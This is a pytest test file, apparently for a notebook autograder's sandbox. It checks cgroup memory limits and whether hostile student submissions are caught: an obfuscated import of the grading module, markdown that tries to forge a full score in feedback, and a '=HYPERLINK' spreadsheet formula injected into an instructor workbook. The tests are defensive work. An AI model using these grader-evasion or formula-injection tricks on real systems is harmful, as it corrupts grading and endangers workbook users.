    _report(f"{mechanism}, bound disabled", unbounded, limits, _bound(limits, mechanism))
    assert held <= _bound(limits, mechanism) < 4 * 400 * 1024**2 <= unbounded
    [stopped, went_on] = [sqlite3.connect(results / "gradebook.sqlite").execute(
        "SELECT status, message FROM grades WHERE question = 'sc01'").fetchone() for results in (bounded, free)]
    assert stopped[0] == "error" and "more than 1024 MB of memory" in stopped[1], stopped
    assert went_on[0] == "correct", went_on  # nothing stopped the four children


def test_the_cgroup_peak_stays_under_the_limit() -> None:
    """The kernel's own count (memory.max_usage_in_bytes of the sandbox's group): never above the limit."""
    _memory_cgroup_or_skip()
    limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1024 * 1024**2)
    result = run_cells([CHILDREN_900_MB.replace("sc01_answer", "x")], "", limits, bwrap_path())
    print(f"cgroup peak {result.memory_peak / 1024**2:.0f} MiB, limit {limits.memory_bytes / 1024**2:.0f} MiB")
    assert 900 * 1024**2 < result.memory_peak <= limits.memory_bytes
    assert result.problem == "stopped: the notebook's processes together used more than 1024 MB of memory"


def test_import_module_of_a_joined_name_is_flagged(batch) -> None:
    _score, status, message = _row(batch, "s_concat")
    assert status == "flagged" and "labkit.grading" in message


def test_markdown_in_an_exception_does_not_forge_the_feedback(batch) -> None:
    text = (batch["results"] / "feedback" / "s_markdown.md").read_text(encoding="utf-8")
    assert [line for line in text.splitlines() if "16 / 16" in line and line.startswith("#")] == []
    [line] = [line for line in text.splitlines() if "ValueError" in line]
    assert re.search(r"(?<!\\)[!\[\]()<>#]", line.split(": ", 1)[1]) is None, line


def test_a_formula_answer_stays_text_in_the_instructors_workbook(batch, tmp_path) -> None:
    from openpyxl import load_workbook

    from labkit.grading.open_answers import FIRST_ROW, export_open

    book = load_workbook(export_open(batch["results"], tmp_path / "open.xlsx", batch["masters"]))
    cells = {book["quiz.sa01"].cell(row=r, column=1).value: book["quiz.sa01"].cell(row=r, column=2)
             for r in range(FIRST_ROW, book["quiz.sa01"].max_row + 1)}
    assert cells["s_formula"].data_type == "s" and cells["s_formula"].value.startswith("=HYPERLINK")
